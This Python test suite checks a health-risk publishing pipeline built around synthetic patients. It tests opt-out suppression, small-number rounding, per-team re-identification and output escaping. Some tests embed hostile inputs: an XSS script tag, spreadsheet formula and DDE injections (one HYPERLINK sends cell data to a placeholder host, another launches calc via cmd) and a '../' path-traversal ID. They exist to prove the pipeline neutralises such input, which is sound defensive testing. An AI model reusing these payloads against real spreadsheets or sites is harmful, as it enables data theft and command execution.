"""Publishing layer: named scenario people in, files out; information governance rules checked on the bytes."""

from __future__ import annotations

import hashlib
import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import polars as pl
import pytest

from pipelines.publish import (
    Provenance,
    Publication,
    PublishReport,
    aggregate_summary,
    commissioners,
    html,
    publish,
    suppress,
)
from pipelines.publish.publication import RisingRiskRule

AS_OF = date(2026, 11, 23)
RUN_ID = "run-2026-11-23-01"
MODEL_VERSIONS = "emergency_admission=v0002;high_cost=v0001"
DATA_BATCHES = "b0101 .. b0102 (2 batches)"
PROVENANCE = Provenance(
    run_id=RUN_ID,
    as_of=AS_OF,
    model_versions={"high_cost": "v0001", "emergency_admission": "v0002"},
    data_batches=("b0101", "b0102"),
    ranking_outcome="emergency_admission",
    explain_scale="log-odds",
    rising_risk=RisingRiskRule(weeks=4, min_rise=0.02, since=AS_OF - timedelta(weeks=4)),
)
BASE = -3.2
START_RISK = 0.05
OPTED_OUT = "opted_out_person"
# An NHS number held only in team T1's key, for a person on team T2's list: it must never be written.
LEAKY_NHS_NUMBER = "9990001112"


def _person(team: str, rank: int, person_id: str, **overrides: Any) -> dict[str, Any]:
    names = {"T1": "North Locality MDT", "T2": "South Locality MDT"}
    row: dict[str, Any] = {
        "team_id": team,
        "team_name": names[team],
        "gp_practice": f"{team}P1",
        "rank": rank,
        "person_id": person_id,
        "age_band": "70-79",
        "sex": "Female",
        "risk": 0.30,
        "tier": "high",
        "reasons": "2 emergency admissions in the last 12 months; heart failure",
        "risk_emergency_admission": 0.30,
        "risk_high_cost": 0.20,
        "risk_frequent_user": 0.10,
        "risk_care_home_admission": 0.05,
        "social_care_package": None,
        "in_care_home": False,
        "recent_discharge": False,
        "on_last_weeks_list": True,
        "change": "steady",
        "previous_rank": rank,
        "acsc_admissions_12m": 0,
        "acsc_conditions": None,
        "start_risk": START_RISK,
        "base_logodds": BASE,
    }
    return row | overrides


def _team_list() -> pl.DataFrame:
    rows = [
        _person(
            "T1",
            1,
            "frail_90_with_homecare",
            age_band="90+",
            risk=0.62,
            tier="very high",
            social_care_package="Long term community support, £450/week",
            recent_discharge=True,
            change="rising",
            previous_rank=3,
            reasons="3 emergency admissions in the last 12 months; frailty score high; lives alone",
            acsc_admissions_12m=2,
            acsc_conditions="Congestive heart failure",
        ),
        _person(
            "T1",
            2,
            "care_home_resident_85",
            age_band="80-89",
            tier="very high",
            risk=0.48,
            in_care_home=True,
            on_last_weeks_list=False,
            change="new",
            previous_rank=None,
        ),
        # The caller should have removed this person; the guard must.
        _person("T1", 3, OPTED_OUT, risk=0.40),
        _person(
            "T1",
            4,
            "young_copd_45",
            age_band="40-49",
            sex="Male",
            tier="moderate",
            risk=0.12,
            risk_high_cost=None,
            risk_frequent_user=None,
            risk_care_home_admission=None,
        ),
        _person(
            "T2",
            1,
            "south_new_discharge_70",
            tier="very high",
            risk=0.55,
            recent_discharge=True,
            on_last_weeks_list=False,
            change="new",
            previous_rank=None,
        ),
        _person(
            "T2", 2, "south_falling_60", age_band="60-69", sex="Male", risk=0.21, change="falling", previous_rank=1
        ),
    ]
    return pl.DataFrame(rows)


def _explanations(team_list: pl.DataFrame) -> pl.DataFrame:
    phrases = [
        (
            "emergency_admissions_12m",
            "Emergency admissions, 12 months",
            "3",
            0.91,
            "3 emergency admissions in the last 12 months",
        ),
        ("hfrs", "Hospital frailty risk score", "17.5", 0.55, "frailty score high"),
        ("lives_alone", "Lives alone", "yes", 0.30, "lives alone"),
        ("gp_contacts_3m", "GP contacts, 3 months", "1", -0.22, "few recent GP contacts"),
        ("age", "Age", "90", 0.18, "aged 90"),
    ]
    rows = []
    for person_id, team_id in team_list.select("person_id", "team_id").iter_rows():
        for i, (feature, label, value, contribution, phrase) in enumerate(phrases, start=1):
            rows.append(
                {
                    "person_id": person_id,
                    "team_id": team_id,
                    "reason_rank": i,
                    "reason": feature,
                    "feature": feature,
                    "feature_label": label,
                    "value": value,
                    "contribution": contribution,
                    "points": contribution / 10,
                    "phrase": phrase,
                    "direction": "raises risk" if contribution > 0 else "lowers risk",
                }
            )
    return pl.DataFrame(rows)


def _leavers() -> pl.DataFrame:
    return pl.DataFrame(
        [
            {"team_id": "T1", "person_id": "died_in_month_2", "previous_rank": 5, "reason": "died"},
            {"team_id": "T1", "person_id": None, "previous_rank": None, "reason": "opted out"},
            {"team_id": "T1", "person_id": "moved_to_south", "previous_rank": 7, "reason": "moved team"},
            # Planted with a harmless-looking reason: naming them would still breach the opt-out.
            {"team_id": "T2", "person_id": OPTED_OUT, "previous_rank": 4, "reason": "risk fell"},
        ],
        schema={"team_id": pl.String, "person_id": pl.String, "previous_rank": pl.Int64, "reason": pl.String},
    )


def _activity() -> pl.DataFrame:
    def event(person_id: str, days_ago: int, setting: str, detail: str, cost: float | None) -> dict[str, Any]:
        return {
            "person_id": person_id,
            "event_date": AS_OF - timedelta(days=days_ago),
            "setting": setting,
            "detail": detail,
            "cost": cost,
        }

    rows = [
        event("frail_90_with_homecare", 12, "emergency admission", "Fall, fractured wrist <left>", 3200.0),
        event("frail_90_with_homecare", 90, "emergency admission", "Pneumonia", 4100.0),
        event("frail_90_with_homecare", 200, "A&E", "Fall at home", 250.0),
        event("frail_90_with_homecare", 30, "GP", "Home visit", None),
        event("frail_90_with_homecare", 31, "GP", "Telephone", None),
        event("frail_90_with_homecare", 400, "social care", "Long term community support started", 450.0),
        event("frail_90_with_homecare", 700, "outpatient", "Cardiology follow-up", 140.0),
        event("frail_90_with_homecare", 900, "outpatient", "Older than 24 months: not drawn", 140.0),
        event("care_home_resident_85", 60, "community", "District nurse visit", 60.0),
        event(OPTED_OUT, 15, "emergency admission", "Chest pain", 2800.0),
        event("south_new_discharge_70", 20, "elective admission", "Hip replacement", 6500.0),
    ]
    return pl.DataFrame(rows)


def _rising() -> pl.DataFrame:
    def row(team: str, rank: int, person_id: str, risk: float, earlier: float, tier: str, was: str) -> dict:
        return {
            "team_id": team,
            "person_id": person_id,
            "rising_rank": rank,
            "age_band": "60-69",
            "sex": "Female",
            "risk": risk,
            "tier": tier,
            "earlier_risk": earlier,
            "earlier_tier": was,
            "earlier_as_of": AS_OF - timedelta(weeks=4),
        }

    return pl.DataFrame(
        [
            row("T1", 1, "rising_unlisted_66", 0.19, 0.07, "moderate", "low"),
            # Planted: the guard must drop them and close the ranks up.
            row("T1", 2, OPTED_OUT, 0.18, 0.10, "moderate", "moderate"),
            row("T1", 3, "rising_unlisted_71", 0.15, 0.12, "moderate", "moderate"),
            row("T2", 1, "south_rising_58", 0.11, 0.05, "moderate", "low"),
        ]
    )


def _population_summary() -> pl.DataFrame:
    # One row per eligible person. The person_id column should not be here at all; it is planted so the
    # test can show the opted-out person never reaches the aggregate either.
    rows: list[dict[str, Any]] = []
    spec = [
        ("T1", "very high", "90+", 1, 3),
        ("T1", "high", "80-89", 2, 9),
        ("T1", "low", "40-49", 5, 40),
        ("T2", "very high", "70-79", 1, 2),
        ("T2", "high", "60-69", 3, 13),
        ("T2", "moderate", "60-69", 4, 22),
    ]
    for team, tier, age, imd, n in spec:
        for i in range(n):
            rows.append(
                {
                    "person_id": f"pop_{team}_{tier}_{i}",
                    "team_id": team,
                    "tier": tier,
                    "age_band": age,
                    "imd_quintile": imd,
                    "expected_events": 0.6 if tier == "very high" else 0.2,
                }
            )
    rows.append(
        {
            "person_id": OPTED_OUT,
            "team_id": "T1",
            "tier": "high",
            "age_band": "70-79",
            "imd_quintile": 2,
            "expected_events": 0.4,
        }
    )
    return pl.DataFrame(rows)


def _reidentification() -> dict[str, pl.DataFrame]:
    return {
        "T1": pl.DataFrame(
            {
                "person_id": [
                    "frail_90_with_homecare",
                    "care_home_resident_85",
                    "young_copd_45",
                    OPTED_OUT,
                    "south_falling_60",
                    "died_in_month_2",
                    "rising_unlisted_66",
                ],
                "nhs_number": [
                    "9434765919",
                    "9434765870",
                    "9434765862",
                    "9990009990",
                    LEAKY_NHS_NUMBER,
                    "9434765811",
                    "9434765803",
                ],
                "name": [
                    "Edith Example",
                    "Harold Sample",
                    "Priya Placeholder",
                    "Opted Outperson",
                    "Leaky Crossteam",
                    "Dora Departed",
                    "Rosa Rising",
                ],
            }
        )
    }


@dataclass
class Published:
    root: Path
    report: PublishReport


def _publish(out_dir: Path, **overrides: Any) -> PublishReport:
    """Publish the scenario people; `overrides` replace a frame or the provenance of the publication, or set
    `reidentification`, `workers` or `templates`."""
    team_list = overrides.pop("team_list", _team_list())
    reidentification = overrides.pop("reidentification", _reidentification())
    workers = overrides.pop("workers", None)
    templates = overrides.pop("templates", None)
    fields: dict[str, Any] = {
        "provenance": PROVENANCE,
        "team_list": team_list,
        "explanations": _explanations(team_list),
        "leavers": _leavers(),
        "activity": _activity(),
        "population_summary": _population_summary(),
        "rising_risk": _rising(),
        "opted_out_ids": frozenset({OPTED_OUT}),
    } | overrides
    publication = Publication(**fields)
    return publish(out_dir, publication, reidentification=reidentification, workers=workers, templates=templates)


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Published:
    out = tmp_path_factory.mktemp("outputs")
    report = _publish(out)
    return Published(out / AS_OF.isoformat(), report)


def _all_files(root: Path) -> list[Path]:
    return sorted(p for p in root.rglob("*") if p.is_file())


def _readable_bytes(path: Path) -> Iterator[bytes]:
    """The file's bytes, and for an xlsx (a zip) every member unzipped: compressed bytes would hide a match."""
    data = path.read_bytes()
    yield data
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                yield z.read(name)


def _contains(path: Path, text: str) -> bool:
    needle = text.encode("utf-8")
    return any(needle in chunk for chunk in _readable_bytes(path))


# --- suppression and the aggregate ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("count", "shown"),
    [(0, "0"), (1, "*"), (7, "*"), (8, "10"), (12, "10"), (13, "15"), (1000, "1000")],
)
def test_suppress_boundaries(count: int, shown: str) -> None:
    assert suppress(count) == shown


def test_suppress_rejects_negative_counts() -> None:
    with pytest.raises(ValueError, match="negative"):
        suppress(-1)


def test_aggregate_has_no_small_cells_and_no_ids() -> None:
    summary = aggregate_summary(_population_summary())
    assert summary.columns == ["breakdown", "group", "tier", "people", "expected_events"]
    for people, expected in summary.select("people", "expected_events").iter_rows():
        # People: 0, "*" or a multiple of 5 from 10 up (8 rounds to 10), so never a value from 1 to 7.
        assert people in ("0", "*") or (int(people) % 5 == 0 and int(people) >= 10), people
        # Expected events are a sum of risks, not people: rounded to 5, and hidden wherever the people are.
        assert expected == "*" if people == "*" else int(expected) % 5 == 0, (people, expected)
    text = summary.write_csv()
    assert "pop_" not in text and OPTED_OUT not in text


def test_aggregate_cells_follow_the_rules() -> None:
    summary = aggregate_summary(_population_summary().filter(pl.col("person_id") != OPTED_OUT))

    def cell(breakdown: str, group: str, tier: str) -> tuple[str, str]:
        row = summary.filter((pl.col("breakdown") == breakdown) & (pl.col("group") == group) & (pl.col("tier") == tier))
        assert row.height == 1
        return row["people"][0], row["expected_events"][0]

    assert cell("team", "T1", "very high") == ("*", "*")  # 3 people: count and expected events hidden
    assert cell("team", "T1", "moderate") == ("0", "0")  # empty cells are published, not left out
    assert cell("team", "T2", "high") == ("15", "5")  # 13 people -> 15; 2.6 expected events -> 5
    assert cell("all people", "all people", "very high") == ("*", "*")  # 3 + 2 = 5 people
    assert cell("deprivation quintile", "5", "low") == ("40", "10")  # 40 x 0.2 = 8 -> 10


# --- information governance ---------------------------------------------------------------------------------------


def test_opted_out_person_appears_in_no_file(published: Published) -> None:
    files = _all_files(published.root)
    assert len(files) > 10
    offenders = [p.relative_to(published.root) for p in files if _contains(p, OPTED_OUT)]
    assert offenders == []
    assert not any(_contains(p, "Opted Outperson") or _contains(p, "9990009990") for p in files)
    # team list 1 + explanations 5 + activity 1 + population 1 + leavers 2 (planted, and one kept with no id)
    # + rising risk 1 + T1's key 1
    assert published.report.guard_dropped == 12


def test_no_staging_folders_are_left_behind(published: Published) -> None:
    assert [p.name for p in published.root.parent.iterdir()] == [AS_OF.isoformat()]


def test_leavers_who_opted_out_are_not_mentioned_beside_last_weeks_list(published: Published) -> None:
    # "1 person left because they opted out" beside last week's list names the person: neither named nor counted.
    for team, named in (("T1", ["died_in_month_2", "moved_to_south"]), ("T2", [])):
        folder = published.root / "teams" / team
        wb = openpyxl.load_workbook(folder / f"{team}_list.xlsx")
        values = [c for row in wb["Changes"].iter_rows(values_only=True) for c in row if c is not None]
        leavers = [v for v in values if isinstance(v, str) and v.startswith("Left the list")]
        assert len(leavers) == len(named)
        for person in named:
            assert person in values
        for path in (folder / f"{team}_list.xlsx", folder / "index.html"):
            assert not _contains(path, "opted out"), path
    page = (published.root / "teams/T2/index.html").read_text(encoding="utf-8")
    assert "No one left the list." in page


def test_reidentification_only_in_the_entitled_team(published: Published) -> None:
    t1 = published.root / "teams" / "T1"
    for path in (t1 / "T1_list.csv", t1 / "T1_list.xlsx", t1 / "index.html", t1 / "people/frail_90_with_homecare.html"):
        assert _contains(path, "9434765919") and _contains(path, "Edith Example"), path
    outside = [p for p in _all_files(published.root) if t1 not in p.parents]
    assert outside
    for path in outside:
        for secret in ("9434765919", "Edith Example", "nhs_number"):
            assert not _contains(path, secret), (path, secret)
    # T1's key also held a T2 person: neither team may see that number.
    assert not any(
        _contains(p, LEAKY_NHS_NUMBER) or _contains(p, "Leaky Crossteam") for p in _all_files(published.root)
    )
    csv = pl.read_csv(t1 / "T1_list.csv")
    assert csv.columns[:4] == ["rank", "person_id", "nhs_number", "name"]


def test_every_csv_row_carries_provenance(published: Published) -> None:
    csvs = [p for p in _all_files(published.root) if p.suffix == ".csv"]
    technical = {"T1_technical.csv", "T2_technical.csv"}
    rising = {"T1_rising_risk.csv", "T2_rising_risk.csv"}
    assert {p.name for p in csvs} == {"T1_list.csv", "T2_list.csv", "summary.csv", *technical, *rising}
    for path in csvs:
        frame = pl.read_csv(path, infer_schema=False)
        assert frame.height > 0
        expected = {
            "run_id": RUN_ID,
            "as_of": AS_OF.isoformat(),
            "model_versions": MODEL_VERSIONS,
            "data_batches": DATA_BATCHES,
        }
        for column, value in expected.items():
            assert frame[column].to_list() == [value] * frame.height, (path.name, column)


def test_rising_risk_view_names_the_team_s_own_unlisted_people(published: Published) -> None:
    t1 = published.root / "teams/T1"
    rising = pl.read_csv(t1 / "T1_rising_risk.csv")
    # The opted-out person planted at rank 2 is gone and the ranks close up.
    assert rising.select("rising_rank", "person_id").rows() == [(1, "rising_unlisted_66"), (2, "rising_unlisted_71")]
    assert rising["name"].to_list() == ["Rosa Rising", None]  # T1's own key; no page for unlisted people
    assert not (t1 / "people/rising_unlisted_66.html").exists()
    page = (t1 / "index.html").read_text(encoding="utf-8")
    assert "Rising risk: not on the list yet" in page
    assert "Rosa Rising" in page and "+12.0 points" in page and "moderate</span> (low)" in page
    south = (published.root / "teams/T2/index.html").read_text(encoding="utf-8")
    assert "south_rising_58" in south and "rising_unlisted" not in south


def test_rising_risk_view_says_when_there_is_nothing_to_compare_with(tmp_path: Path) -> None:
    first_week = replace(PROVENANCE, rising_risk=RisingRiskRule(weeks=4, min_rise=0.02, since=None))
    _publish(tmp_path, provenance=first_week, rising_risk=_rising().clear())
    page = (tmp_path / AS_OF.isoformat() / "teams/T1/index.html").read_text(encoding="utf-8")
    assert "compares with the scores of at least 4 weeks ago; there is no such run yet" in page


def test_ranks_close_up_after_the_guard(published: Published) -> None:
    # A gap at rank 3 would tell the team someone was hidden there, and last week's list would say who.
    ranks = pl.read_csv(published.root / "teams/T1/T1_list.csv")["rank"].to_list()
    assert ranks == [1, 2, 3]


def test_first_week_without_leavers_or_activity(tmp_path: Path) -> None:
    report = _publish(tmp_path, leavers=pl.DataFrame(), activity=pl.DataFrame(), reidentification=None)
    assert report.people_listed == 5
    wb = openpyxl.load_workbook(tmp_path / AS_OF.isoformat() / "teams/T2/T2_list.xlsx")
    assert not any("Left the list" in str(c) for row in wb["Changes"].iter_rows(values_only=True) for c in row)


def test_only_known_columns_are_published(tmp_path: Path) -> None:
    # Identifiers in a shared frame would reach every team; an unplanned column reaches no one.
    team_list = _team_list().with_columns(nhs_number=pl.lit("1112223334"), postcode=pl.lit("ZZ99 3WZ"))
    _publish(tmp_path, team_list=team_list, reidentification=None)
    assert not any(_contains(p, "1112223334") or _contains(p, "ZZ99 3WZ") for p in _all_files(tmp_path))


def test_a_run_with_some_outcomes_in_dollars_states_the_currency(tmp_path: Path) -> None:
    # A small foreign population: two outcomes modelled, costs in USD as the source recorded them.
    team_list = _team_list().drop("risk_frequent_user", "risk_care_home_admission")
    _publish(tmp_path, team_list=team_list, provenance=replace(PROVENANCE, cost_currency="USD"), reidentification=None)
    run = tmp_path / AS_OF.isoformat()
    assert json.loads((run / "manifest.json").read_text())["provenance"]["cost_currency"] == "USD"
    assert "costs in USD" in (run / "teams/T1/index.html").read_text()
    assert "costs in USD" in (run / "commissioners/summary.html").read_text()
    person_page = next((run / "teams/T1/people").glob("*.html")).read_text()
    assert "recorded cost US$" in person_page and "recorded cost £" not in person_page
    about = openpyxl.load_workbook(run / "teams/T1/T1_list.xlsx")["About"]
    assert ("Costs", "in USD, as the source recorded them (never converted)") in about.iter_rows(values_only=True)
    listed = pl.read_csv(run / "teams/T1/T1_list.csv", infer_schema=False)
    assert listed["risk_frequent_user"].null_count() == listed.height


def test_risks_calibrated_on_too_few_events_are_not_called_calibrated(tmp_path: Path) -> None:
    # The small-sample path of models.training: the ranking model (and another) calibrated on too few events.
    warnings = {"emergency_admission": "few events", "high_cost": "few events"}
    _publish(tmp_path, provenance=replace(PROVENANCE, calibration_warnings=warnings), reidentification=None)
    run = tmp_path / AS_OF.isoformat()
    about = " ".join(
        str(c)
        for row in openpyxl.load_workbook(run / "teams/T1/T1_list.xlsx")["About"].iter_rows(values_only=True)
        for c in row
        if c
    )
    page = (run / "teams/T1/index.html").read_text()
    for text in (about, page):
        assert "calibrated probability" not in text
        assert "Risk is an approximate probability" in text and "The order of the list is sound" in text
        assert "The high cost risks on the person pages are approximate" in text


def test_calibrated_risks_are_called_calibrated(published: Published) -> None:
    about = openpyxl.load_workbook(published.root / "teams/T1/T1_list.xlsx")["About"]
    assert any("Risk is a calibrated probability" in str(c) for row in about.iter_rows(values_only=True) for c in row)
    assert "approximate" not in (published.root / "teams/T1/index.html").read_text()


# --- the team's files -------------------------------------------------------------------------------------------------


def test_workbook_has_four_formatted_sheets(published: Published) -> None:
    wb = openpyxl.load_workbook(published.root / "teams" / "T1" / "T1_list.xlsx")
    assert wb.sheetnames == ["List", "Reasons", "Changes", "About"]
    ws = wb["List"]
    headers = [c.value for c in ws[1]]
    assert headers[:4] == ["Rank", "Person ID", "NHS number", "Name"]
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "E2"  # header row and the identity columns stay in view
    assert ws.auto_filter.ref is not None and ws.auto_filter.ref.startswith("A1:")
    risk = ws.cell(2, headers.index("Risk") + 1)
    assert risk.value == pytest.approx(0.62) and risk.number_format == "0.0%"
    tier = ws.cell(2, headers.index("Tier") + 1)
    assert tier.value == "very high" and tier.fill.fgColor.rgb.endswith("B2182B")
    assert ws.column_dimensions["B"].width > 10
    assert ws.max_row == 1 + 3  # three people after the guard
    about = [c for row in wb["About"].iter_rows(values_only=True) for c in row if c]
    joined = " ".join(str(v) for v in about)
    for text in (RUN_ID, MODEL_VERSIONS, DATA_BATCHES, "log-odds", "does not replace it"):
        assert text in joined


def _svg(page: str, css_class: str) -> str:
    match = re.search(rf'<svg[^>]*class="{css_class}".*?</svg>', page, re.S)
    assert match, css_class
    return match.group(0)


def _attr(tag: str, name: str) -> float:
    match = re.search(rf'{name}="([-0-9.]+)"', tag)
    assert match, name
    return float(match.group(1))


def test_waterfall_adds_up_from_the_starting_risk_to_the_headline_risk(published: Published) -> None:
    page = (published.root / "teams/T1/people/frail_90_with_homecare.html").read_text()
    svg = _svg(page, "waterfall")
    base, final = _attr(svg, "data-base"), _attr(svg, "data-final")
    bars = re.findall(r'<rect class="bar [^"]*"[^>]*>', svg)
    assert len(bars) == 6  # five reasons, then all other factors together
    running = base
    for bar in bars:
        assert _attr(bar, "data-start") == pytest.approx(running, abs=1e-4)
        running = _attr(bar, "data-end")
        assert running - _attr(bar, "data-start") == pytest.approx(_attr(bar, "data-contribution"), abs=1e-4)
    assert base == pytest.approx(START_RISK, abs=1e-4)
    assert running == pytest.approx(final, abs=1e-4) and final == pytest.approx(0.62, abs=1e-4)
    assert 'class="big">62%<' in page  # the headline the chart ends at
    assert svg.count('class="bar raises"') == 5 and svg.count('class="bar lowers"') == 1
    assert "3 emergency admissions in the last 12 months" in svg and "All other factors together" in svg


def test_what_lowers_the_risk_is_shown_apart(published: Published) -> None:
    page = (published.root / "teams/T1/people/frail_90_with_homecare.html").read_text()
    lowers = re.search(r'<ul class="lowers">(.*?)</ul>', page, re.S)
    assert lowers and "few recent GP contacts" in lowers.group(1)
    assert "3 emergency admissions" not in lowers.group(1)


def test_impactability_marker_on_the_list_and_the_page(published: Published) -> None:
    index = (published.root / "teams/T1/index.html").read_text()
    assert index.count('class="tag impact"') == 1
    page = (published.root / "teams/T1/people/frail_90_with_homecare.html").read_text()
    assert "Impactable: 2 emergency admissions in the last 12 months" in page
    assert "Impactable" not in (published.root / "teams/T1/people/young_copd_45.html").read_text()


def test_pages_carry_the_protective_marking_and_the_summary_does_not(published: Published) -> None:
    for rel in ("teams/T1/index.html", "teams/T1/people/young_copd_45.html"):
        assert (published.root / rel).read_text().count('<p class="marking">OFFICIAL-SENSITIVE</p>') == 2, rel
    assert "OFFICIAL-SENSITIVE" not in (published.root / "commissioners/summary.html").read_text()


def test_technical_columns_are_in_the_technical_file_only(published: Published) -> None:
    team = pl.read_csv(published.root / "teams/T1/T1_list.csv", infer_schema=False)
    technical = pl.read_csv(published.root / "teams/T1/T1_technical.csv", infer_schema=False)
    for column in ("explain_scale", "base_logodds", "logodds", "start_risk"):
        assert column not in team.columns, column
    assert {"rank", "person_id", "start_risk", "base_logodds", "explain_scale", "run_id"} <= set(technical.columns)
    assert "nhs_number" not in technical.columns  # pseudonymised ids only
    assert technical["person_id"].to_list() == team["person_id"].to_list()


def test_workbook_numbers_print_setup_marking_and_links(published: Published) -> None:
    wb = openpyxl.load_workbook(published.root / "teams" / "T1" / "T1_list.xlsx")
    reasons = wb["Reasons"]
    headers = [c.value for c in reasons[1]]
    values = [row[headers.index("Value")] for row in reasons.iter_rows(min_row=2, values_only=True)]
    assert 3 in values and 17.5 in values and "yes" in values  # numbers stored as numbers, words as words
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.oddHeader.center.text == "OFFICIAL-SENSITIVE" == ws.oddFooter.center.text, ws.title
    assert wb["List"].print_title_rows == "$1:$1"
    link = wb["List"]["B2"]
    assert link.value == "frail_90_with_homecare" and link.hyperlink.target == "people/frail_90_with_homecare.html"


def test_commissioners_summary_writes_thousands_with_separators(tmp_path: Path) -> None:
    big = pl.concat([_population_summary()] + [_population_summary().filter(pl.col("team_id") == "T1")] * 30)
    _publish(tmp_path, population_summary=big, reidentification=None)
    html_text = (tmp_path / AS_OF.isoformat() / "commissioners/summary.html").read_text()
    assert re.search(r'<td class="num">1,[0-9]{3}</td>', html_text)
    csv_text = (tmp_path / AS_OF.isoformat() / "commissioners/summary.csv").read_text()
    assert re.search(r",1[0-9]{3},", csv_text)  # machine-readable numbers in the CSV


def test_timeline_has_one_mark_per_activity_row(published: Published) -> None:
    page = (published.root / "teams/T1/people/frail_90_with_homecare.html").read_text()
    svg = _svg(page, "timeline")
    in_window = _activity().filter(
        (pl.col("person_id") == "frail_90_with_homecare") & (pl.col("event_date") >= date(2024, 11, 23))
    )
    assert in_window.height == 7
    assert svg.count('class="event"') == in_window.height
    assert sorted(re.findall(r'data-date="([0-9-]+)"', svg)) == sorted(d.isoformat() for d in in_window["event_date"])
    assert "Fall, fractured wrist &lt;left&gt;" in svg  # hover detail, escaped
    assert "<left>" not in page
    empty = _svg((published.root / "teams/T1/people/young_copd_45.html").read_text(), "timeline")
    assert empty.count('class="event"') == 0 and 'data-events="0"' in empty


def test_index_links_every_person_page(published: Published) -> None:
    index = (published.root / "teams/T1/index.html").read_text()
    links = re.findall(r'href="(people/[^"]+\.html)"', index)
    assert links == [f"people/{p}.html" for p in ("frail_90_with_homecare", "care_home_resident_85", "young_copd_45")]
    assert all((published.root / "teams/T1" / link).exists() for link in links)
    assert "<link" not in index and "src=" not in index  # no external assets


def test_commissioner_outputs_hold_no_person_level_data(published: Published) -> None:
    summary = published.root / "commissioners"
    for path in summary.iterdir():
        for secret in ("pop_", "frail_90_with_homecare", "person_id"):
            assert not _contains(path, secret), (path.name, secret)
    html = (summary / "summary.html").read_text()
    assert "<svg" in html and "North Locality MDT" in html


def test_text_is_escaped(tmp_path: Path) -> None:
    team_list = _team_list().with_columns(
        reasons=pl.lit("<script>alert(1)</script>; ok"), team_name=pl.lit("A & B <MDT>")
    )
    _publish(tmp_path, team_list=team_list)
    for path in _all_files(tmp_path):
        if path.suffix == ".html":
            text = path.read_text()
            assert "<script>alert" not in text and "<MDT>" not in text, path


def test_spreadsheet_formulas_are_neutralised(tmp_path: Path) -> None:
    # Text from outside riskstrat's control: a team name in the reference data, a name in a team's key.
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    team_list = _team_list().with_columns(
        team_name=pl.lit("@SUM(1+1)*cmd|' /C calc'!A0"), social_care_package=pl.lit("+cmd|' /C calc'!A0")
    )
    key = _reidentification()["T1"].with_columns(name=pl.lit(evil))
    _publish(tmp_path, team_list=team_list, reidentification={"T1": key})
    root = tmp_path / AS_OF.isoformat()
    listed = pl.read_csv(root / "teams/T1/T1_list.csv", infer_schema=False)
    assert set(listed["name"]) == {"'" + evil}
    assert set(listed["team_name"]) == {"'@SUM(1+1)*cmd|' /C calc'!A0"}
    assert set(listed["social_care_package"]) == {"'+cmd|' /C calc'!A0"}
    assert pl.read_csv(root / "teams/T1/T1_list.csv")["rank"].to_list() == [1, 2, 3]  # numbers stay numbers
    workbook = openpyxl.load_workbook(root / "teams/T1/T1_list.xlsx")
    cells = [c for ws in workbook for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert evil in [c.value for c in cells]  # shown as the text it is, never run


def test_unsafe_person_id_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    team_list = _team_list().with_columns(
        person_id=pl.when(pl.col("rank") == 1).then(pl.lit("../escape")).otherwise(pl.col("person_id"))
    )
    with pytest.raises(ValueError, match="safe as file names") as err:
        _publish(tmp_path, team_list=team_list)
    assert "escape" not in str(err.value)  # no ids in messages that may reach logs
    assert list(tmp_path.iterdir()) == []


# --- atomic writes and the manifest -------------------------------------------------------------------------------


def _snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in _all_files(root)}


def test_failed_publish_leaves_the_destination_untouched(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _publish(tmp_path)
    before = _snapshot(tmp_path / AS_OF.isoformat())
    calls = {"n": 0}
    real = html.person_page

    def crash_on_second_page(*args: Any, **kwargs: Any) -> str:
        calls["n"] += 1
        if calls["n"] == 2:
            raise OSError("disk full")
        return real(*args, **kwargs)

    monkeypatch.setattr(html, "person_page", crash_on_second_page)
    changed = _team_list().with_columns(reasons=pl.lit("something new"))
    with pytest.raises(OSError, match="disk full"):
        _publish(tmp_path, team_list=changed)
    assert _snapshot(tmp_path / AS_OF.isoformat()) == before
    assert [p.name for p in tmp_path.iterdir()] == [AS_OF.isoformat()]  # staging folder cleaned up


def test_failed_first_publish_leaves_no_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("crash while writing the summary")

    monkeypatch.setattr(commissioners, "publish_commissioners", boom)
    with pytest.raises(RuntimeError):
        _publish(tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_leftovers_of_a_killed_publish_are_put_right_at_the_next(tmp_path: Path) -> None:
    # Killed while writing: a hidden staging folder holding a person's page.
    half = tmp_path / f".{AS_OF.isoformat()}.tmp-k1ll3d_"
    (half / "teams/T1/people").mkdir(parents=True)
    (half / "teams/T1/people/frail_90_with_homecare.html").write_text("half written")
    # Killed between the two renames: last week's run moved aside and never put back.
    last_week = (AS_OF - timedelta(weeks=1)).isoformat()
    aside = tmp_path / f".{last_week}.old-0a1b2c3d"
    aside.mkdir()
    (aside / "manifest.json").write_text("{}")
    # A run moved aside after its replacement was in place: only the deletion was missed.
    (tmp_path / "2026-11-09").mkdir()
    (tmp_path / ".2026-11-09.old-99999999").mkdir()
    _publish(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["2026-11-09", last_week, AS_OF.isoformat()]
    assert (tmp_path / last_week / "manifest.json").read_text() == "{}"
    assert (tmp_path / AS_OF.isoformat() / "manifest.json").exists()


def test_an_opt_out_after_publishing_reaches_the_earlier_weeks_files(tmp_path: Path) -> None:
    week_1 = AS_OF - timedelta(weeks=1)
    # Last week the person had not opted out: they were on T1's list, named by T1's key, a leaver of T2's
    # and a riser of T1's.
    _publish(tmp_path, provenance=replace(PROVENANCE, as_of=week_1), opted_out_ids=frozenset())
    earlier = tmp_path / week_1.isoformat()
    assert any(_contains(p, OPTED_OUT) for p in _all_files(earlier))
    untouched = (earlier / "teams/T1/people/frail_90_with_homecare.html").read_bytes()
    report = _publish(tmp_path)  # this week: they have opted out
    assert report.earlier_outputs.changed_folders == [week_1.isoformat()]
